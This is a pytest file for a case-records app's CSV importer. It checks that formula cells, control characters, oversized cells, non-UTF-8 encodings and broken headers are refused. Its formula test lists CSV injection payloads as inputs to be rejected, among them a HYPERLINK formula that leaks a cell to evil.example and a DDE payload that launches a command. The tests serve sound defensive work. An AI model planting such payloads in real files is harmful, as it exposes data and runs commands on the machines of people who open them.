"""Hostile and broken CSV: every problem is refused with a reason, nothing half-imported."""

from __future__ import annotations

import pytest

from sprava.cases.models import Case
from sprava.records import csv_io
from sprava.records.csv_io import CsvError
from sprava.records.models import Person
from tests.csv_io.conftest import messages, outcomes, run

pytestmark = pytest.mark.django_db

HEADER = "name,role,notes\n"


@pytest.mark.parametrize("cell", [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
])
def test_formulas_are_refused(case: Case, cell: str) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    report = run("persons", f"{HEADER}{quoted},victim,\nSafe Name,victim,{quoted}\n", case)
    assert outcomes(report) == ["rejected", "rejected"]
    assert "like a spreadsheet formula" in messages(report)
    assert Person.objects.count() == 0


def test_a_leading_tab_or_carriage_return_is_refused(case: Case) -> None:
    report = run("persons", f'{HEADER}"\t=1+1",victim,\n"\r=1",victim,\n', case)
    assert outcomes(report) == ["rejected", "rejected"]


def test_an_escaped_formula_is_taken_as_text(case: Case) -> None:
    report = run("persons", f"{HEADER}Safe Name,victim,'=not a formula\n", case)
    assert outcomes(report) == ["created"]
    assert Person.objects.get().notes == "=not a formula"  # and exports escape it again


@pytest.mark.parametrize("char", ["\x00", "\x07", "\x1b", "\x7f"])
def test_control_characters_are_refused(case: Case, char: str) -> None:
    report = run("persons", f"{HEADER}Bad{char}Name,victim,\n", case)
    assert outcomes(report) == ["rejected"]
    assert "control characters" in messages(report)


def test_a_cell_longer_than_its_field_is_refused(case: Case) -> None:
    report = run("persons", f"{HEADER}{'N' * 301},victim,\nOk Name,victim,{'x' * 100_001}\n",
                 case)
    assert outcomes(report) == ["rejected", "rejected"]
    assert "name is 301 characters long; at most 300" in messages(report)
    assert "notes is 100001 characters long" in messages(report)


def test_a_cell_beyond_the_csv_reader_limit_stops_the_file_there(case: Case) -> None:
    huge = "x" * 200_000
    report = run("persons", f"{HEADER}First Name,victim,\nSecond Name,victim,{huge}\n"
                 f"Third Name,victim,\n", case)
    assert outcomes(report) == ["created", "rejected"]
    assert report.rows[1].line == 3
    assert "malformed" in messages(report) and "not read" in messages(report)


def test_a_file_in_windows_1251_is_refused_with_advice(case: Case) -> None:
    data = (HEADER + "Алесь Выкрыцкі,victim,\n").encode("cp1251")
    with pytest.raises(CsvError, match=r"not UTF-8 .*line 2.*CSV UTF-8.*1251"):
        run("persons", data, case)


def test_a_utf16_file_is_refused(case: Case) -> None:
    with pytest.raises(CsvError, match="UTF-16"):
        run("persons", (HEADER + "Ales,victim,\n").encode("utf-16"), case)


def test_a_byte_order_mark_and_windows_line_ends_are_fine(case: Case) -> None:
    data = ("\ufeff" + HEADER + "Алесь Выкрыцкі,victim,\r\n").replace("\n", "\r\n")
    assert outcomes(run("persons", data.encode("utf-8"), case)) == ["created"]


@pytest.mark.parametrize("delimiter", [";", "\t"])
def test_semicolon_and_tab_delimited_files_are_read(case: Case, delimiter: str) -> None:
    text = f"name{delimiter}role{delimiter}birth_date\nAles Vykrytski{delimiter}victim" \
           f"{delimiter}10.08.1990\n"
    assert outcomes(run("persons", text, case)) == ["created"]


def test_column_names_ignore_case_and_spacing(case: Case) -> None:
    report = run("persons", " Name ,ROLE,Birth  Date\nAles,victim,1990\n", case)
    assert outcomes(report) == ["created"]
    assert Person.objects.get().birth_date is not None


@pytest.mark.parametrize(("text", "reason"), [
    ("", "the file is empty"),
    ("\n\n", "the file is empty"),
    ("role,notes\nvictim,x\n", "missing required columns: name"),
    ("name,name,role\nA,B,victim\n", "columns named twice: name"),
])
def test_broken_headers_refuse_the_whole_file(case: Case, text: str, reason: str) -> None:
    with pytest.raises(CsvError, match=reason):
        run("persons", text, case)


def test_unknown_columns_are_reported_and_ignored(case: Case) -> None:
    report = run("persons", "name,role,shoe_size\nAles,victim,44\n", case)
    assert report.warnings == ["ignored unknown columns: shoe_size"]
    assert outcomes(report) == ["created"]


def test_rows_with_extra_cells_are_refused_and_short_rows_are_padded(case: Case) -> None:
    report = run("persons", "name,role,notes\nAles,victim,a,b\nHanna,witness\n", case)
    assert outcomes(report) == ["rejected", "created"]
    assert "more cells than the header has columns" in messages(report)


def test_blank_rows_are_skipped_and_lines_are_counted_from_the_header(case: Case) -> None:
    report = run("persons", 'name,role,notes\n\nAles,victim,"two\nlines"\n,,\nBad,hero,\n', case)
    assert [(row.line, row.outcome) for row in report.rows] == [(3, "created"),
                                                                (6, "rejected")]


def test_too_large_files_and_too_many_rows_are_refused(case: Case,
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(csv_io.reading, "MAX_ROWS", 2)
    with pytest.raises(CsvError, match="more than 2 rows"):
        run("persons", HEADER + "A,victim,\nB,victim,\nC,victim,\n", case)
    monkeypatch.setattr(csv_io.reading, "MAX_BYTES", 10)
    with pytest.raises(CsvError, match="larger than"):
        run("persons", HEADER + "A,victim,\n", case)
    assert Person.objects.count() == 0


def test_an_unknown_kind_is_refused(case: Case) -> None:
    with pytest.raises(CsvError, match="cannot import 'evidence'"):
        run("evidence", HEADER, case)


def test_binary_garbage_is_refused(case: Case) -> None:
    with pytest.raises(CsvError):
        run("persons", bytes(range(256)) * 10, case)
